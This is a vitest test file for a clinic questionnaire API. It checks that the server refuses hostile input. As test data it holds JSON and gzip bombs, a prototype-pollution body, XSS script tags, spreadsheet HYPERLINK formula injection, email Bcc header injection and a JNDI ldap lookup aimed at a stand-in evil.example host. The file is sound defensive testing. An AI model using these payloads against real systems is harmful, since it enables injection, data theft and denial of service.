/** What is sent to the server in place of what it asks for: by accident, by another system, or to break it. */
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { composeEmail } from '../../functions/adapters/email.ts';
import { readRoster } from '../../functions/api/roster.ts';
import { frequencies, MARIA } from '../support/clinic.ts';
import { atTheDoors } from '../support/doors.ts';
import { openServed, type Served } from '../support/served.ts';

let served: Served;
beforeAll(async () => {
  served = await openServed();
});
afterAll(() => served.close());

const nine = frequencies(1, 1, 1, 1, 1, 1, 1, 1, 0);
const phq9 = (answers: unknown, complete = true) => ({ instrument: 'phq-9', answers, complete });
const { 9: _ninth, ...eight } = nine;

/** A client who is asked how their mood was, from 0 to 10. */
async function checkedIn(clientId: string) {
  await served.clinics.addClient(clientId, { recordNumber: clientId });
  const { request } = await served.clinics.askClient(clientId, 'intake');
  const token = await served.clinics.linkTo(clientId, request.id);
  const answer = (answers: unknown) => {
    const responses = [{ instrument: 'attune-intake', answers, complete: true }];
    return served.send('POST', '/link/answers', { body: { token, requestId: request.id, responses } });
  };
  return { answer, token, requestId: request.id, chart: () => served.clinics.charts.get('north', clientId) };
}

/** Sends the text as it is, and finds that it was refused as `status` and changed nothing. */
async function refusesText(status: number, text: string | Uint8Array, headers: Record<string, string> = {}) {
  const one = await served.linked();
  const { head } = await one.chart();
  const sent =
    typeof text === 'string' ? text.replaceAll('TOKEN', one.token).replaceAll('ASKED', one.requestId) : text;
  const answer = await served.send('POST', '/link/answers', { body: sent, headers });
  expect([answer.status, answer.headers['content-type']]).toEqual([
    status,
    'application/problem+json; charset=utf-8',
  ]);
  expect((await one.chart()).head).toBe(head);
  expect((await one.open()).status).toBe(200);
}
const BEFORE =
  '{"token":"TOKEN","requestId":"ASKED","responses":[{"instrument":"phq-9","complete":true,"answers":';
const AFTER = '}]}';

describe('answers that are not quite answers', () => {
  it('82 · a form without an item is kept, says which it lacks, and scores nothing yet', async () => {
    const one = await served.linked();
    const { status, body } = await one.answer(phq9(eight));
    expect([status, body.done, body.missing]).toEqual([
      200,
      false,
      [{ instrument: 'phq-9', linkIds: ['9'] }],
    ]);
    expect((await one.responses()).map(({ complete }) => complete)).toEqual([false]);
    expect((await one.chart()).measures).toEqual({});
  });

  it('83 · an item that nobody asked is left out and named; the others are kept', async () => {
    const one = await served.linked();
    const { status, body } = await one.answer(phq9({ ...eight, 17: 'LA6571-9' }));
    expect([status, body.missing[0].linkIds]).toEqual([200, ['9', '17']]);
    expect((await one.responses())[0]!.answers).toEqual(eight);
  });

  it('84 · a form that comes twice in one request counts once', async () => {
    const one = await served.linked();
    const { status } = await one.answer(phq9(nine), phq9(nine));
    expect(status).toBe(200);
    expect((await one.chart()).measures['phq-9']).toMatchObject({ count: 1, last: { value: 8 } });
    const item = { linkId: '1', answer: [{ valueCoding: { code: 'LA6571-9' } }] };
    const paper = {
      resourceType: 'QuestionnaireResponse',
      questionnaire: 'phq-9',
      status: 'in-progress',
      item: [item, { ...item, answer: [{ valueCoding: { code: 'LA6568-5' } }] }],
    };
    const other = await served.linked();
    const { head } = await other.chart();
    const path = `/clients/${other.clientId}/questionnaire-responses`;
    expect((await served.send('POST', path, { as: 'cleo', body: paper })).status).toBe(422);
    expect((await other.chart()).head).toBe(head);
  });

  it.each([
    ['85 · “3” is not 3, nor 3 a code', '3', 3],
    ['86 · a fraction is no whole number', 3.0000001, 3.0000001],
  ])('%s: it is asked again, and nothing is made of it', async (_, number, code) => {
    const kim = await atTheDoors();
    await kim.treats();
    await kim.passes('2026-01-06T16:00:00.000Z');
    const [request] = await kim.requests('check-in');
    const { instrument } = request!.forms[0]!;
    const { head } = await kim.chart();
    const refused = await kim.refuses(
      {
        do: 'answer',
        requestId: request!.id,
        responses: [{ instrument, answers: { mood: number }, complete: true }],
      },
      'kim',
    );
    expect(refused.refused).toBe('invalid');
    expect((await kim.chart()).head).toBe(head);
    const one = await served.linked();
    const { status, body } = await one.answer(phq9({ ...nine, 1: code }));
    expect([status, body.missing]).toEqual([200, [{ instrument: 'phq-9', linkIds: ['1'] }]]);
    expect((await one.chart()).measures).toEqual({});
  });

  it('87 · null is no answer; NaN is no JSON; what is infinite once read is no number', async () => {
    const one = await served.linked();
    const { body } = await one.answer(phq9({ ...nine, 1: null, 2: Number.NaN }));
    expect(body.missing).toEqual([{ instrument: 'phq-9', linkIds: ['1', '2'] }]);
    for (const word of ['NaN', 'Infinity', '-Infinity', 'undefined'])
      await refusesText(400, `${BEFORE}{"1":${word}}${AFTER}`);
    for (const text of ['null', '"all of them"', '[1,2,3]', '3', '{"1":1e999}'])
      await refusesText(422, `${BEFORE}${text}${AFTER}`);
  });
});

describe('JSON that means to harm', () => {
  it('88 · a bomb of nested lists is turned away, whatever its depth', async () => {
    for (const depth of [100, 10_000, 100_000])
      await refusesText(400, `${BEFORE}${'['.repeat(depth)}${']'.repeat(depth)}${AFTER}`);
  });

  it('89 · the names that every object has are names like any other, and no way in', async () => {
    await refusesText(400, `${BEFORE}{"__proto__":{"9":"LA6571-9"}}${AFTER}`);
    const one = await served.linked();
    for (const name of ['constructor', 'toString', 'hasOwnProperty']) {
      const { status, body } = await one.answer(phq9({ ...eight, [name]: 'LA6571-9' }));
      expect([name, status, body.missing[0].linkIds]).toEqual([name, 200, ['9', name]]);
      expect((await one.answer({ ...phq9(nine), instrument: name })).status).toBe(422);
      const path = `/clients/${name}`;
      expect((await served.send('GET', path, { as: 'cleo' })).status).toBe(404);
    }
    expect(({} as Record<string, unknown>)['9']).toBeUndefined();
  });

  it('90 · an answer that stands twice in one body is no answer: neither is chosen', async () => {
    for (const twice of [
      '{"9":"LA6571-9","9":"LA6568-5"}',
      '{"9":"LA6568-5","\\u0039":"LA6571-9"}',
      '{"1":"LA6568-5"},"answers":{"1":"LA6571-9"}',
    ])
      await refusesText(400, `${BEFORE}${twice}${AFTER}`);
    // The same name in two objects, and in a text, is no repeat.
    const one = await served.linked();
    const { status } = await one.answer(phq9(nine), {
      instrument: 'gad-7',
      answers: frequencies(0, 0, 0, 0, 0, 0, 0),
      complete: true,
    });
    expect(status).toBe(200);
    const other = await checkedIn('c-quoted');
    expect((await other.answer({ reason: '{"a":1,"a":2} \\"a\\": "a"' })).status).toBe(200);
  });

  it('91 · JSON in another encoding, or with a mark before it, is told to come in UTF-8', async () => {
    await refusesText(400, `\ufeff${BEFORE}{}${AFTER}`);
    await refusesText(400, Buffer.from(`${BEFORE}{}${AFTER}`, 'utf16le'));
    await refusesText(400, Buffer.from(`\ufeff${BEFORE}{}${AFTER}`, 'utf16le'), {
      'content-type': 'application/json; charset=utf-16',
    });
  });

  it('92 · half a letter in an answer becomes the mark for one, and the log still proves itself', async () => {
    const one = await checkedIn('c-half');
    expect((await one.answer({ reason: 'so sad \ud83d' })).status).toBe(200);
    const events = [];
    for await (const { entry } of served.clinics.charts.log('north', 'c-half')) events.push(...entry.events);
    expect(JSON.stringify(events)).toContain('so sad \ufffd');
    expect(await served.clinics.charts.verify('north', 'c-half')).toBeUndefined();
    await refusesText(400, `${BEFORE}{"\\ud83d":"LA6571-9"}${AFTER}`);
  });

  it('98 · a text made to keep a pattern busy is read in no time', async () => {
    const kim = await atTheDoors();
    await kim.treats();
    await kim.passes('2026-01-06T16:00:00.000Z');
    const one = await checkedIn('c-busy');
    for (const words of [
      `${'a '.repeat(800)}!`,
      `${'9'.repeat(1599)}x`,
      `${'STOP '.repeat(300)}?`,
      '\n'.repeat(1600),
    ]) {
      const begun = performance.now();
      expect((await one.answer({ reason: words })).status).not.toBe(500);
      await kim.texts(words);
      expect(performance.now() - begun).toBeLessThan(5_000);
    }
    for (const email of [`${'a'.repeat(200)}@${'a.'.repeat(20)}`, `${'.'.repeat(250)}@x`]) {
      const body = { ...MARIA, email };
      expect((await served.send('POST', '/clients', { as: 'cleo', body })).status).toBe(422);
    }
  });

  it('99 · a packed body is not unpacked: it is turned away as it is', async () => {
    const bomb = gzipSync(Buffer.alloc(50 * 1024 * 1024, '['));
    expect(bomb.length).toBeLessThan(256 * 1024);
    const before = process.memoryUsage().rss;
    await refusesText(400, bomb, { 'content-encoding': 'gzip' });
    expect(process.memoryUsage().rss - before).toBeLessThan(40 * 1024 * 1024);
  });
});

describe('text that is something else where it is shown', () => {
  const create = (name: string) =>
    served.send('POST', '/clients', { as: 'cleo', body: { ...MARIA, name, recordNumber: 'H-1' } });

  it('93 · a name that turns the direction of writing is refused, for clients and staff alike', async () => {
    const { status, body } = await create('Maria \u202ezepoL');
    expect([status, body.faults[0].path]).toEqual([422, 'name']);
    const staff = {
      id: 'finn',
      name: 'Finn \u202e',
      email: 'f@clinic.example',
      roles: ['clinician'],
      teams: [],
    };
    expect((await served.send('POST', '/staff', { as: 'ada', body: staff })).status).toBe(422);
  });

  it('94 · a script in a name or in words is words, on the page and in the record', async () => {
    const script = '<script>alert(1)</script><img src=x onerror=alert(1)>';
    const one = await checkedIn('c-script');
    expect((await one.answer({ reason: script })).status).toBe(200);
    const body = { changes: { name: script }, why: script };
    expect((await served.send('PATCH', '/clients/c-script', { as: 'cleo', body })).status).toBe(200);
    const page = await served.send('GET', '/clients/c-script/document', { as: 'cleo' });
    expect(page.body).toContain('&lt;script&gt;');
    expect(page.body).not.toMatch(/<script|<img/);
    expect(page.headers['content-security-policy']).toMatch(/^default-src 'none'/);
    const record = await served.send('GET', '/clients/c-script/export', { as: 'cleo' });
    expect(JSON.stringify(record.body)).toContain(script);
    // What a reader of FHIR shows as a page is only a resource's own narrative.
    const told = record.body.entry.map((one: { resource: { text?: object } }) => one.resource.text);
    expect(JSON.stringify(told)).not.toMatch(/<script|<img/);
  });

  it('95 · a name that a spreadsheet would run is refused by the door and by the roster', async () => {
    for (const name of ['=HYPERLINK("http://evil.example")', '+1+1', '-2', '@SUM(A1)', '＝1+1A'])
      expect([name, (await create(name)).status]).toEqual([name, 422]);
    const csv = 'name,dob,phone\n"=HYPERLINK(""http://evil.example"")",1990-01-01,+14155550134\n';
    const { rows, faults } = readRoster(
      csv,
      { country: 'US', zone: 'UTC', language: 'en' },
      '2026-01-05T15:00:00.000Z',
    );
    expect([rows, faults.map(({ column }) => column)]).toEqual([[], ['name']]);
  });

  it('96 · a line break in a name starts no header of a mail', async () => {
    for (const name of ['Ana\r\nBcc: evil@evil.example', 'Ana\nBcc: evil@evil.example'])
      expect((await create(name)).status).toBe(422);
    // As it stands in a form, percent signs and all, it is odd, and no line break.
    const mail = { name: 'Elm\r\nBcc: evil@evil.example', language: 'en', at: '2026-01-05T15:00:00.000Z' };
    const message = {
      key: 'k#c#m',
      clinicId: 'elm',
      channel: 'email',
      subject: 'Hello%0d%0aBcc: x',
      text: 'Hello',
      mail,
    } as const;
    const raw = Buffer.from(
      await composeEmail({ ...message, to: 'kim@example.org' }, { address: 'care@elm.example' }),
    ).toString();
    expect(raw.split('\r\n\r\n')[0]).not.toMatch(/^bcc:/im);
    const body = { name: 'Elm\r\nBcc: evil@evil.example' };
    expect((await served.send('PATCH', '/clinic', { as: 'ada', body })).status).toBe(422);
  });

  it('97 · braces and lookups in a text are never filled in: nobody’s words are a template', async () => {
    const lookup = `$\{jndi:ldap://evil.example/a}`;
    const kim = await atTheDoors({ client: { name: `Kim {{link}} ${lookup} {clinic}` } });
    await kim.treats();
    await kim.texts(`${lookup} {{constructor}} {link}`);
    await kim.passes('2026-01-13T16:00:00.000Z');
    const texts = (await kim.sent()).map(({ text }) => text);
    expect(texts.length).toBeGreaterThan(3);
    for (const text of texts) expect(text).not.toMatch(/jndi|\{|\}|evil/);
  });
});
